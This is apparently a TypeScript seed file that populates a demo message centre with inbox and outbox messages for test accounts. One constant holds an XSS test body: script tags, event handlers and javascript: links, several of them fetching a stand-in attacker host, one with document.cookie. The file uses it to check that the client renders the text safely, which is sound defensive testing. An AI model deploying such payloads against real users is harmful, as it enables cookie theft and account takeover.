// The message centre's demo mail, per merchant. Deterministic apart from the clock: the
// inbox shows 30 days and the outbox 7, so times count back from the seeding instant.
//   demo / atlas: demo01 has 45 messages (three pages of 20) with unread ones on every page, one
//     hostile body, one with in-app and external links, replyable customer-service mail, and three
//     sent replies (one older than the outbox's 7 days).
//   mono: demo01 has one page (5 messages, 2 unread); mono's flags hide the outbox and replying.
//   every merchant: agent01 has 3 messages (1 unread); msg_empty01 (password Demo@1234) has none.
import type { Merchant } from '../merchants';
import type { Db } from './database';

const HOUR = 3_600_000;
const DAY = 24 * HOUR;

/** The account with an empty message centre (the empty state). */
export const MESSAGES_EMPTY_USER = 'msg_empty01';

/** A body that tries everything: the client must render its text and run none of it. */
export const HOSTILE_MESSAGE_BODY =
  '<p>Please verify your account.</p>' +
  `<img src=x onerror="window.__pwned=1;alert('pwned');fetch('http://attacker.localhost/steal?c='+document.cookie)">` +
  `<script>window.__pwned=2;alert('pwned');fetch('http://attacker.localhost/script')</script>` +
  `<a href="javascript:window.__pwned=3;alert('pwned');fetch('http://attacker.localhost/link')">Verify now</a>` +
  `<svg onload="window.__pwned=4;alert('pwned')"></svg>` +
  `<iframe src="javascript:alert('pwned')"></iframe>`;

const LINKS_MESSAGE_BODY =
  '<p>Your weekly bonus is ready. <a href="/m/rewardCenter">Open the reward centre</a>, ' +
  'or read <a href="https://www.example.com/terms">the full terms</a>.</p><ul><li>Bonus: 50.00</li><li>Turnover: x5</li></ul>';

const TOPICS = ['Weekly newsletter', 'Deposit received', 'New games this week', 'Maintenance notice', 'Your VIP progress', 'Lottery results', 'Withdrawal processed'];

type Source = 'SYSTEM' | 'SERVICE' | 'AGENT';
const SENDERS: Record<Source, string> = { SYSTEM: 'System', SERVICE: 'Customer Service', AGENT: 'Your agent' };

interface SeedMessage {
  subject: string;
  content: string;
  source: Source;
  canReply: boolean;
  read: boolean;
  sentAt: number;
}

/** demo01's big inbox; index 1 is the newest. */
function bigInbox(now: number): SeedMessage[] {
  const unread = new Set([1, 2, 3, 5, 8, 13, 21, 30, 44]);
  const out: SeedMessage[] = [];
  for (let i = 1; i <= 45; i += 1) {
    const source: Source = i % 3 === 0 ? 'SERVICE' : i % 7 === 0 ? 'AGENT' : 'SYSTEM';
    let subject = `${TOPICS[i % TOPICS.length] ?? 'Notice'} #${i}`;
    let content = `<p>Message ${i}: ${subject}. Thank you for playing with us.</p>`;
    if (i === 1) {
      subject = 'Your weekly bonus';
      content = LINKS_MESSAGE_BODY;
    } else if (i === 2) {
      subject = 'Account verification';
      content = HOSTILE_MESSAGE_BODY;
    } else if (source === 'SERVICE') {
      subject = `How was your deposit? #${i}`;
      content = `<p>Customer service here. Did your deposit arrive as expected? <strong>Reply</strong> to tell us.</p>`;
    }
    out.push({ subject, content, source, canReply: source === 'SERVICE', read: !unread.has(i), sentAt: now - i * 13 * HOUR });
  }
  return out;
}

function smallInbox(now: number): SeedMessage[] {
  return [1, 2, 3, 4, 5].map((i) => ({
    subject: i === 1 ? 'How was your deposit?' : `${TOPICS[i % TOPICS.length] ?? 'Notice'} #${i}`,
    content: `<p>Message ${i} for you. <a href="/m/rewardCenter">Claim</a></p>`,
    source: i === 1 ? 'SERVICE' : 'SYSTEM',
    canReply: i === 1,
    read: i > 2,
    sentAt: now - i * DAY,
  }));
}

export function seedMessages(db: Db, merchant: Merchant, demoHash: string | undefined, now: number): void {
  const code = merchant.code;
  const userId = (username: string): number | undefined =>
    (db.prepare('SELECT id FROM users WHERE merchant_code = ? AND username = ?').get(code, username) as { id: number } | undefined)?.id;

  db.prepare(
    `INSERT INTO users (merchant_code, username, password_hash, mobile, email, nickname, type, balance_cents, must_change_password, upline_id, affiliate_code, club_label, reg_date, last_login_at, has_bet)
     VALUES (?, ?, ?, NULL, NULL, NULL, 0, 0, 0, NULL, NULL, 'VIP0', ?, NULL, 0)`,
  ).run(code, MESSAGES_EMPTY_USER, demoHash ?? null, now - 60 * DAY);

  const insert = db.prepare('INSERT INTO messages (user_id, sender, subject, content, sent_at, read, record_source, can_reply) VALUES (?, ?, ?, ?, ?, ?, ?, ?)');
  const add = (user: number, m: SeedMessage): number =>
    Number(insert.run(user, SENDERS[m.source], m.subject, m.content, m.sentAt, m.read ? 1 : 0, m.source, m.canReply ? 1 : 0).lastInsertRowid);

  const demo = userId('demo01');
  if (demo !== undefined) {
    const inbox = code === 'mono' ? smallInbox(now) : bigInbox(now);
    const ids = inbox.map((m) => add(demo, m));
    if (code !== 'mono') {
      const replied = inbox.findIndex((m) => m.canReply);
      const inboxId = ids[replied] ?? null;
      const subject = `RE: ${inbox[replied]?.subject ?? ''}`;
      const insertSent = db.prepare('INSERT INTO message_outbox (user_id, inbox_id, record_source, recipient, subject, content, sent_at) VALUES (?, ?, ?, ?, ?, ?, ?)');
      insertSent.run(demo, inboxId, 'SERVICE', SENDERS.SERVICE, subject, 'Yes, it arrived. Thank you!', now - 1 * DAY);
      insertSent.run(demo, inboxId, 'SERVICE', SENDERS.SERVICE, subject, 'One more question about the turnover.', now - 3 * DAY);
      insertSent.run(demo, null, 'SERVICE', SENDERS.SERVICE, 'RE: An old question', 'Older than the outbox window.', now - 10 * DAY);
    }
  }
  const agent = userId('agent01');
  if (agent !== undefined) {
    for (let i = 1; i <= 3; i += 1) {
      add(agent, { subject: `Message ${i}`, content: `<p>Message ${i} for you. <a href="/m/rewardCenter">Claim</a></p>`, source: 'SYSTEM', canReply: false, read: i <= 2, sentAt: now - (4 - i) * DAY });
    }
  }
}
